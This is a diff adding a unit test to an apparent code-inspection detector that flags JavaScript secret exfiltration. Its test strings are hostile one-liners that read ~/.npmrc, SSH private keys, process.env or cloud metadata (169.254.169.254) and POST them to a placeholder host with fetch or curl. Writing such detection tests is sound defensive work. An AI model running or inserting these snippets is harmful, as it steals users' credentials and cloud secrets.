@@ -69,5 +69,25 @@ TEST(CodeEnvironment, ATokenIsReadByAnyName) {
   EXPECT_FALSE(reads("function g(env) { f(env.CI); } g(process.env)"));
 }
 
+TEST(CodeEnvironment, SecretsByCommandsAndClouds) {
+  for (const char* const code : {"fetch(u, { method: 'POST', body: cp.execSync('cat ~/.npmrc').toString() })",
+                                 "cp.exec('cat ~/.ssh/id_rsa', (e, out) => fetch(u, { method: 'POST', body: out }))",
+                                 "cp.execFile('curl', ['-d', JSON.stringify(process.env), u])",
+                                 "cp.exec(`curl -d '${JSON.stringify(process.env)}' ${u}`)",
+                                 "cp.execFile('curl', ['--data', fs.readFileSync(os.homedir() + '/.npmrc'), u])",
+                                 "fetch('http://169.254.169.254/latest/meta-data/').then((r) => r.text()).then((t) => "
+                                 "fetch(u, { method: 'POST', body: t }))",
+                                 "require('http').get('http://169.254.169.254/latest/', (r) => r.on('data', (t) => "
+                                 "fetch(u, { method: 'POST', body: t })))"})
+    EXPECT_TRUE(sends(code)) << code;
+  for (const char* const code :
+       {"fetch(u, { method: 'POST', body: cp.execSync('cat ./version.txt').toString() })",
+        "cp.execFile('curl', ['-d', JSON.stringify({ ci: process.env.CI }), u])",
+        "cp.execFile('curl', ['-o', 'x', u], { env: { ...process.env, A: JSON.stringify({}) } })",
+        "fetch('http://192.0.2.1/latest/meta-data/').then((r) => r.text()).then((t) => "
+        "fetch(u, { method: 'POST', body: t }))"})
+    EXPECT_FALSE(sends(code)) << code;
+}
+
 }  // namespace
 }  // namespace cordon::inspect
